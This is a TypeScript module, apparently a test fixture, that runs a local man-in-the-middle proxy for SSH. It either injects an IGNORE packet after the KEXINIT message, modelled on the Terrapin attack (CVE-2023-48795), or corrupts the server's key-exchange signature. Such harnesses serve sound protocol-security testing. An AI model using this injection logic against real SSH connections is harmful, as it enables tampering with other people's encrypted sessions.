import { connect, createServer, type Server, type Socket } from 'node:net';

/** Who sends the message that is put in. */
export type Direction = 'to-client' | 'to-server';
/** A host that shows another's key or certificate, which everybody may know, and cannot sign by it. */
type Falsehood = 'false-signature';

export interface Middle {
  readonly port: number;
  /** What it does to connections from now on. */
  puts: Direction | Falsehood | undefined;
  close(): Promise<void>;
}

/** SSH_MSG_IGNORE with no data (RFC 4253, 11.2), as an unencrypted packet. */
const IGNORE = packet(Buffer.from([2, 0, 0, 0, 0]));
const KEXINIT = 20;

/**
 * Somebody in the middle of an SSH connection. It puts a message into one direction behind the first message of its
 * handshake, as the Terrapin attack does (CVE-2023-48795); without a direction it passes on all.
 */
export async function startMiddle(
  target: { readonly host: string; readonly port: number },
  direction: Direction | Falsehood | undefined,
): Promise<Middle> {
  const open = new Set<Socket>();
  const server: Server = createServer((client) => {
    const upstream = connect(target.port, target.host);
    for (const socket of [client, upstream]) {
      open.add(socket);
      socket.on('error', () => {});
      socket.once('close', () => open.delete(socket));
    }
    pass(client, upstream, middle.puts === 'to-server' ? withMessage : undefined);
    const changed = middle.puts === 'false-signature' ? withFalseSignature : undefined;
    pass(upstream, client, middle.puts === 'to-client' ? withMessage : changed);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const middle: Middle = {
    puts: direction,
    port: typeof address === 'object' && address !== null ? address.port : 0,
    close: () => {
      for (const socket of open) socket.destroy();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
  return middle;
}

/** What becomes of the beginning of a stream, as far as it has come; undefined as long as more of it is needed. */
type Change = (seen: Buffer) => { readonly bytes: Buffer; readonly done: boolean } | undefined;

function pass(from: Socket, to: Socket, change: Change | undefined): void {
  let seen: Buffer | undefined = Buffer.alloc(0);
  let sent = 0;
  from.on('data', (bytes: Buffer) => {
    if (change === undefined || seen === undefined) return void to.write(bytes);
    seen = Buffer.concat([seen, bytes]);
    const changed = change(seen);
    if (changed === undefined) return;
    to.write(changed.bytes.subarray(sent));
    sent = changed.bytes.length;
    if (changed.done) seen = undefined;
  });
  from.once('end', () => to.end());
  from.once('close', () => to.destroy());
}

const withMessage: Change = (seen) => {
  const end = endOfKexInit(seen);
  if (end === undefined) return undefined;
  return { bytes: Buffer.concat([seen.subarray(0, end), IGNORE, seen.subarray(end)]), done: true };
};

/** The signature is the last thing in the answer to a key exchange (RFC 4253, 8), before the padding. */
const withFalseSignature: Change = (seen) => {
  const begin = endOfKexInit(seen);
  if (begin === undefined) return undefined;
  const end = seen.length < begin + 5 ? Infinity : begin + 4 + seen.readUInt32BE(begin);
  // Without the host's first message there is no answer.
  if (seen.length < end) return { bytes: seen.subarray(0, begin), done: false };
  const bytes = Buffer.from(seen);
  const last = end - bytes.readUInt8(begin + 4) - 1;
  bytes.writeUInt8(bytes.readUInt8(last) ^ 1, last);
  return { bytes, done: true };
};

/** Where the first packet ends, behind the line of the version. */
function endOfKexInit(bytes: Buffer): number | undefined {
  const line = bytes.indexOf('\n') + 1;
  if (line === 0 || bytes.length < line + 6) return undefined;
  const end = line + 4 + bytes.readUInt32BE(line);
  if (bytes[line + 5] !== KEXINIT) throw new Error('the first message is no KEXINIT');
  return bytes.length < end ? undefined : end;
}

/** RFC 4253, 6: padded to a multiple of eight, at least four bytes of it. */
function packet(payload: Buffer): Buffer {
  const padding = 8 - ((payload.length + 5) % 8) + (8 - ((payload.length + 5) % 8) < 4 ? 8 : 0);
  const bytes = Buffer.alloc(5 + payload.length + padding);
  bytes.writeUInt32BE(1 + payload.length + padding, 0);
  bytes.writeUInt8(padding, 4);
  payload.copy(bytes, 5);
  return bytes;
}
